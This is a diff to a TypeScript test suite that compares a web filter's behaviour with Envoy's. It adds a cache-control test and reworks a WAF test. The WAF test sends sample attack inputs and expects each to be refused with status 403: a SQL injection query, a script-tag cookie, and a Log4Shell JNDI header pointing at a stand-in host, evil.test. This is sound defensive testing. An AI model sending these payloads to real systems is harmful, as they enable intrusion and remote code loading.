@@ -109,6 +109,14 @@ const PLACES: Place[] = [
     contentSecurityPolicyReportOnly: { directives: ["default-src 'self'"] },
     permissionsPolicy: { usb: ['self', 'https://a.test'] },
   }),
+  place('cache-control', 'cache-control', {
+    rules: [
+      {
+        extensions: ['css'],
+        cacheControl: { visibility: 'public', maxAge: '1m', staleWhileRevalidate: '30s' },
+      },
+    ],
+  }),
   place('waf', 'waf', { exclude: [{ rules: ['sql/*'], targets: ['args.free'] }] }),
   place('nonce', 'security-headers', {
     contentSecurityPolicy: { directives: ['script-src ${nonce}'] },
@@ -381,13 +389,23 @@ describe('a filter that ships with weir does the same in Envoy', () => {
   });
 
   test('waf: attacks in query, cookies and fields, what is none, and what is excluded', async () => {
-    const ask = async (path: string, ...fields: string[]): Promise<number> =>
-      (await send('waf', path, 'User-Agent: x', ...fields)).answer.status;
-    expect(await ask('/?q=shoes')).toBe(200);
-    expect(await ask('/?q=1%27+union+select+a+from+b')).toBe(403);
-    expect(await ask('/?free=1%27+union+select+a+from+b')).toBe(200);
-    expect(await ask('/', 'Cookie: a=<script>alert(1)</script>')).toBe(403);
-    expect(await ask('/', 'X-Api-Version: ${jndi:ldap://evil.test/a}')).toBe(403);
+    const refused = (rule: string): string => `{"waf":"denied","score":5,"rules":["${rule}"]}`;
+    const ask = async (path: string, awaits: string[], ...fields: string[]): Promise<number> => {
+      const head = getRequest(path, 'plugin.test', 'User-Agent: x', ...fields);
+      return (await both.compare({ role: 'waf', send: head, awaits })).answer.status;
+    };
+    expect(await ask('/?q=shoes', [])).toBe(200);
+    expect(await ask('/?q=1%27+union+select+a+from+b', [refused('sql/union@args.q')])).toBe(403);
+    expect(await ask('/?free=1%27+union+select+a+from+b', [])).toBe(200);
+    expect(await ask('/', [refused('xss/script-tag@cookies.a')], 'Cookie: a=<script>')).toBe(403);
+    const lookup = 'X-Api-Version: ${jndi:ldap://evil.test/a}';
+    expect(await ask('/', [refused('java/log4shell@headers.x-api-version')], lookup)).toBe(403);
+  });
+
+  test('cache-control: what may be kept, and what sets a cookie', async () => {
+    const seen = await send('cache-control', '/a.css');
+    expect(seen.answer.header('cache-control')).toBe('public, max-age=60, stale-while-revalidate=30');
+    expect((await send('cache-control', '/a.html')).answer.header('cache-control')).toBeUndefined();
   });
 
   test('oidc: programs are refused alike; nobody can log in where the host cannot seal', async () => {
